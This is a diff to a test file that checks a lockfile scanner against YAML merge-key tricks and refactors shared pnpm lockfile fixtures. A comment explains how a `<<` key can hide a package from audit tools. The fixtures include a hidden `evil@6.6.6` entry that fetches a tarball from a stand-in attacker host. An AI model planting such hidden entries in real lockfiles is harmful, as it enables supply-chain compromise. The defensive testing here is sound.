@@ -62,27 +62,32 @@ describe("fast YAML reader: what it declines", () => {
   });
 });
 
+/** A pnpm-lock v9 whose root depends on foo@1.0.0, up to and with foo's package entry. */
+const FOO_LOCKFILE_HEAD = [
+  "lockfileVersion: '9.0'",
+  "",
+  "importers:",
+  "",
+  "  .:",
+  "    dependencies:",
+  "      foo:",
+  "        specifier: ^1.0.0",
+  "        version: 1.0.0",
+  "",
+  "packages:",
+  "",
+  "  foo@1.0.0:",
+  `    resolution: {integrity: sha512-${"A".repeat(86)}==}`,
+  "",
+];
+
 // pnpm reads its lockfile with js-yaml, and yarn berry's fallback and other tools with YAML 1.1
 // loaders: a plain `<<` key merges the mapping (or alias, or list of them) it holds into its
 // parent. Read as a literal key, a package or dependency edge written under one is hidden from
 // `lockfile check` and `sbom` while the package manager installs it.
 describe("YAML merge keys (`<<`)", () => {
   const lockfile = [
-    "lockfileVersion: '9.0'",
-    "",
-    "importers:",
-    "",
-    "  .:",
-    "    dependencies:",
-    "      foo:",
-    "        specifier: ^1.0.0",
-    "        version: 1.0.0",
-    "",
-    "packages:",
-    "",
-    "  foo@1.0.0:",
-    "    resolution: {integrity: sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==}",
-    "",
+    ...FOO_LOCKFILE_HEAD,
     "  <<: {evil@6.6.6: {resolution: {tarball: 'http://evil.example/evil.tgz'}}}",
     "",
     "  <<:",
@@ -178,21 +183,7 @@ describe("a carriage return alone in yarn.lock", () => {
  */
 async function edgeToEvil(dependencies: string): Promise<boolean> {
   const lockfile = [
-    "lockfileVersion: '9.0'",
-    "",
-    "importers:",
-    "",
-    "  .:",
-    "    dependencies:",
-    "      foo:",
-    "        specifier: ^1.0.0",
-    "        version: 1.0.0",
-    "",
-    "packages:",
-    "",
-    "  foo@1.0.0:",
-    `    resolution: {integrity: sha512-${"A".repeat(86)}==}`,
-    "",
+    ...FOO_LOCKFILE_HEAD,
     "  evil@6.6.6:",
     `    resolution: {integrity: sha512-${"B".repeat(86)}==}`,
     "    hasBin: true",
